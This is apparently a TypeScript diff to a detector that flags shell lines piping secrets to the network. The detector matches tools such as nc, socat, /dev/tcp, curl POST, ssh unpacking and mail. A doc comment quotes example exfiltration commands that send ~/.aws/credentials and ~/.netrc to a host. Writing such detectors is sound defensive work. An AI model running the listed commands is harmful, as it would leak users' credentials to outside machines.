@@ -43,13 +43,18 @@ const distant = /^["']?(?:[\w.@-]{2,100}:|\$)/;
 
 /** `cat ~/.aws/credentials | curl -d @-`, `tee >(curl -d @- host) < ~/.netrc`, `nc host 99 < ~/.netrc`. */
 const pipesOut = (line: string): boolean => {
-  const stages = line.split(/(?<!\|)\|(?!\|)|&&|;/, 40);
+  const parts = line.split(/((?<!\|)\|(?!\|)|&&|;)/, 80);
+  const stages = parts.filter((_, at) => at % 2 === 0);
   if (stages.some(feedsSecret)) return true;
   const first = stages.findIndex((stage) => readsSecret(stage));
   if (first === -1) return netcat.test(stages[0] ?? '') && stages.some(netcatReads);
   return (
-    stages.slice(first + 1).some((stage) => takesInput.test(stage) && !stageStaysHere(stage)) ||
-    stages.some(netcatReads)
+    stages.some(
+      (stage, i) =>
+        i > first &&
+        (takesInput.test(stage) || (parts[2 * i - 1] === '|' && unpacks.test(stage))) &&
+        !stageStaysHere(stage),
+    ) || stages.some(netcatReads)
   );
 };
 const reader = new RegExp(
@@ -62,8 +67,11 @@ const readsSecret = (stage: string): boolean => reader.test(stage) || environmen
 const netcat = /(?<![\w./-])(?:nc|ncat|netcat|socat|telnet)\b|\/dev\/(?:tcp|udp)\//i;
 const consumer =
   String.raw`\s*(?:[({] ?)?(?:(?:sudo|time|nohup|command|exec) ){0,2}(?:(?:curl|wget|xh|https?)\b.{0,300}(?:@-|-T ?-(?:\s|$)|--upload-file[ =]?-|=<-|--post-file[ =]\/dev\/stdin|\bPOST\b|\bPUT\b)|(?:nc|ncat|netcat|socat|telnet|openssl s_client)\b|` +
-  String.raw`ssh .{0,200}(?:\bcat ?>|\bdd .{0,80}\bof=|\btee |\btar -?\w{0,6}x|\b(?:base64|gunzip|xxd|openssl|sponge|split)\b)|gh gist create\b|(?:mail|mailx|sendmail|mutt)\b)`;
-const takesInput = new RegExp(String.raw`(?:^|>\s?\()${consumer}|>\s?\/dev\/(?:tcp|udp)\/`, 'i');
+  String.raw`ssh\b.{0,200}\bcat ?>|gh gist create\b|(?:mail|mailx|sendmail|mutt)\b)`;
+const takesInput = new RegExp(String.raw`(?:^&?|>\s?\()${consumer}|>\s?\/dev\/(?:tcp|udp)\/`, 'i');
+/** Behind a pipe only: what stands on a line of its own may read files of the other machine. */
+const unpacks =
+  /^&?\s*(?:sudo )?ssh .{0,200}(?:\bdd .{0,80}\bof=|\btee |\btar -?\w{0,6}x|\b(?:base64|gunzip|xxd|openssl|sponge|split)\b)/i;
 const fed = new RegExp(String.raw`>\s?\(${consumer}`, 'i');
 const redirected = new RegExp(`(?<!<)< ?["']?${webFile}`, 'i');
 const feedsSecret = (stage: string): boolean =>
